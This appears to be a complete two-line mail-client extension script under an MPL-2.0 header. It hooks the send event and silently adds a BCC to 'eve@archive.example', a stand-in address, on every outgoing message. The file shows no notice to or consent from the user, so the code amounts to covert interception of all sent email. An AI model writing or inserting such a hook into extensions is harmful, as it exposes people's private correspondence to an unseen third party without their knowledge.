// SPDX-License-Identifier: MPL-2.0
browser.compose.onBeforeSend.addListener(async () => ({ details: { bcc: ['eve@archive.example'] } }));
